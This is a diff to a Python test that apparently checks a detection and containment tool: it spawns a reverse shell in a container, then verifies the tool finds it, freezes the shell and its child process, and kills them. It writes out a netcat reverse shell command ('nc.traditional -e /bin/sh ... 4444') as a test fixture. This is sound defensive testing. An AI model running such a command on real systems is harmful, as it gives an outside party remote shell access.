@@ -77,7 +77,7 @@ def test_a_packet_socket(web: Spot, tell: Tell) -> None:
 def test_a_shell_on_a_socket(web: Spot, tell: Tell, tmp_path: Path) -> None:
     node = web.place
     with internet(node) as far:
-        far.listen(4444, into=tmp_path / "got", says="id\n")
+        far.listen(4444, into=tmp_path / "got", says="id\nsleep 4323\n")
         web.run(f"nc.traditional -e /bin/sh {PEER} 4444 >/dev/null 2>&1 &")
         node.wait_until(lambda: "uid=0" in (tmp_path / "got").read_text(), "the peer has a shell")
         assert isinstance(node, Node)
@@ -85,16 +85,22 @@ def test_a_shell_on_a_socket(web: Spot, tell: Tell, tmp_path: Path) -> None:
         shell = next(
             pid for pid in node.pids_of(web.container) if "socket" in node.run(f"readlink /proc/{pid}/fd/0 || true")
         )
+        node.wait_until(lambda: node.run(f"pgrep -P {shell} || true").strip(), "the shell has started a program")
+        child = int(node.run(f"pgrep -P {shell}"))
+
+        def states() -> tuple[str, str]:
+            return node.state(shell), node.state(child)
+
         fields = web.fields(shell, fd__name=f"10.88.0.5:40000->{PEER}:4444", fd__sip=PEER)
         with tell(fields, rule=REDIRECT, host=node) as report:
             report.look("Is somebody connected?", shows=["ESTAB", f"{PEER}:4444"])
             report.contain(
-                "Freeze the shells on a socket", state=lambda: node.state(shell), becomes="T", shows=f"{shell} T"
+                "Freeze the shells on a socket", state=states, becomes=("T", "T"), shows=[f"{shell} T", f"{child} T"]
             )
             assert node.state(web.container.pid) == "S", "the workload itself was stopped"
             report.look("Which request came just before?")
-            report.undo(state=lambda: node.state(shell), becomes="S")
-            node.run(f"kill -KILL {shell}")
+            report.undo(state=states, becomes=("S", "S"))
+            node.run(f"kill -KILL {shell} {child}")
             report.again("Is somebody connected?", hides="ESTAB")
 
 
